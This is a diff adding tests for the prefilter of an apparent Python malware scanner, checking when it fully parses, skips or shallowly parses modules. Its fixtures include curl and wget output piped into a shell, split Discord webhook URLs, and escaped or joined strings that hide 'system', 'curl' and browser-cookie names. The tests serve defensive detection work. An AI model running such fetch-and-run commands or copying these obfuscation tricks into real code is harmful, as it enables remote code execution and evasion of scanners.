@@ -5,7 +5,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import { scan } from './testing.js';
-import { parseMode, relevantRanges } from './prefilter.js';
+import { parseMode, relevantRanges, shallowRanges } from './prefilter.js';
 
 const lines = (...l: string[]): string => l.join('\n') + '\n';
 
@@ -55,10 +55,61 @@ describe('parseMode', () => {
     expect(parseMode(lines('from .grabber import collect', 'collect()'))).toBe('shallow');
   });
 
+  it('parses curl and wget only where something is piped into a shell', () => {
+    expect(parseMode(lines('def f():', '    """Tells a browser from a command-line HTTP tool (curl and wget)."""'))).toBe('skip');
+    expect(parseMode(lines("CMD = 'curl -fsSL https://example.org/i | sh'"))).toBe('full');
+    expect(parseMode(lines("CMD = ('wget -qO- https://example.org/i |'", '       # then', "       ' bash')"))).toBe('full');
+    expect(parseMode(lines("CMD = 'curl https://example.org/i |\\tsh'"))).toBe('full');
+  });
+
+  it('parses webhooks and decryption only in the forms the rules match', () => {
+    expect(parseMode(lines('def notify(webhook, payload):', '    return webhook.send(payload)'))).toBe('skip');
+    expect(parseMode(lines("URL = ('https://webhook'", '       # the bin', "       '.site/0123456789abcdef')"))).toBe('full');
+    expect(parseMode(lines('def unseal(box, token):', '    return box.decrypt(token)'))).toBe('skip');
+    expect(parseMode(lines('from cryptography.fernet import Fernet', 'def unseal(key, token):', '    return Fernet(key).decrypt(token)'))).toBe('full');
+  });
+
   it('glues split string literals before looking', () => {
     expect(parseMode(lines("HOOK = 'https://disc' 'ord.com/api/webhooks/1/x'"))).toBe('full');
     expect(parseMode(lines("HOOK = 'https://disc' + \\", "    'ord.com/api/webhooks/1/x'"))).toBe('full');
     expect(parseMode(lines("m = __import__('o' + 's')"))).toBe('full');
+  });
+});
+
+describe('joins', () => {
+  it('parses a join of constants, which the analysis folds', () => {
+    expect(parseMode(lines("x = ''.join(['ex', 'ec'])"))).toBe('full');
+    expect(parseMode(lines("x = ''.join((", "    # the pieces", "    'ex', 'ec'))"))).toBe('full');
+    expect(parseMode(lines("x = ''.join([str('ex', 'ascii'), 'ec'])"))).toBe('full');
+    expect(parseMode(lines("x = ''.join(map(chr, [101, 120]))"))).toBe('full');
+  });
+
+  it('skips joins of values the analysis cannot fold', () => {
+    expect(parseMode(lines("x = ', '.join([str(v) for v in values])"))).toBe('skip');
+    expect(parseMode(lines("x = '\\n'.join([line.strip() for line in lines])"))).toBe('skip');
+    expect(parseMode(lines("x = ''.join([f'{a}', b])"))).toBe('skip');
+  });
+});
+
+describe('escapes', () => {
+  it('parses a module with an escape of an ASCII character or of whitespace', () => {
+    expect(parseMode(lines("x = getattr(os, 'sy\\x73tem')"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\u0020b'"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\u3000b'"))).toBe('full');
+    expect(parseMode(lines("x = 'a\\N{SPACE}b'"))).toBe('full');
+    expect(parseMode(lines("x = 'cu\\162l'"))).toBe('full');
+  });
+
+  it('skips translations and data tables whose escapes are of other characters', () => {
+    expect(parseMode(lines("NAMES = {'fr': u'R\\u00e9union', 'zh': u'\\u5317\\u4eac', 'pt': u'Dois Irm\\u00e3os'}"))).toBe('skip');
+    expect(parseMode(lines("CARRIERS = {'46731729': {'en': 'IPIFY LIMITED'}}"))).toBe('skip');
+    // `\\` is one escape: what follows it is text
+    expect(parseMode(lines("x = r'\\\\x41'"))).toBe('skip');
+  });
+
+  it('looks again with the escapes decoded, where one hides a word', () => {
+    expect(parseMode(lines("x = '\\u00e9curl -s https://example.org/x | sh'"))).toBe('full');
+    expect(parseMode(lines("x = 'Network\\U0001f600Cookies'"))).toBe('full');
   });
 });
 
@@ -80,6 +131,47 @@ describe('relevantRanges', () => {
 
   it('parses small modules whole', () => {
     expect(relevantRanges(lines('import os', 'def f():', '    pass'))).toBeUndefined();
+  });
+});
+
+describe('shallow analysis changes no result', () => {
+  it('finds a network call in a default value, which runs at import', async () => {
+    const files = { 'demo/__init__.py': '', 'demo/mod.py': lines('import requests', 'def f(', "    x=requests.get('https://example.org/'),", '):', '    return x') };
+    const on = await scan(files, 'wheel');
+    const off = await scan(files, 'wheel', undefined, { prefilter: false });
+    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
+    expect(threats(on)).toEqual(['import-network:3:import']);
+    expect(threats(on)).toEqual(threats(off));
+    expect(on.score).toBe(off.score);
+  });
+});
+
+describe('shallowRanges', () => {
+  const plain = Array.from({ length: 300 }, (_, i) => lines(`def helper_${i}(x, y=1) -> int:`, `    return compute(x, ${i})`, '')).join('');
+
+  it('leaves out the plain functions of a module analysed only at module level', () => {
+    const src = lines('from .core import setup, compute', 'import requests') + plain +
+      lines('@register(requests.get)', 'def hooked(x):', '    return x', 'def fetched(x=requests.get("https://example.org/")):', '    return x', 'setup()');
+    expect(parseMode(src)).toBe('shallow');
+    const kept = shallowRanges(src)!.map((r) => src.slice(r.startIndex, r.endIndex)).join('');
+    expect(kept).toContain('from .core import setup, compute');
+    expect(kept).toContain('def hooked(x):');
+    expect(kept).toContain('def fetched(');
+    expect(kept).toContain('setup()');
+    expect(kept).not.toContain('def helper_7(');
+  });
+
+  it('changes no result', async () => {
+    const src = lines('import requests') + plain + lines('def fetched(x=requests.get("https://example.org/")):', '    return x', "requests.post('https://example.org/ping')");
+    const files = { 'demo/__init__.py': '', 'demo/mod.py': src };
+    expect(parseMode(src)).toBe('shallow');
+    const on = await scan(files, 'wheel');
+    const off = await scan(files, 'wheel', undefined, { prefilter: false });
+    const threats = (r: typeof on): string[] => r.findings.filter((f) => f.severity !== 'low').map((f) => `${f.rule}:${f.line}:${f.phase}`).sort();
+    expect(threats(on)).toEqual(threats(off));
+    expect(threats(on).length).toBeGreaterThan(0);
+    expect(on.score).toBe(off.score);
+    expect(on.stats.parseErrors).toBe(0);
   });
 });
 
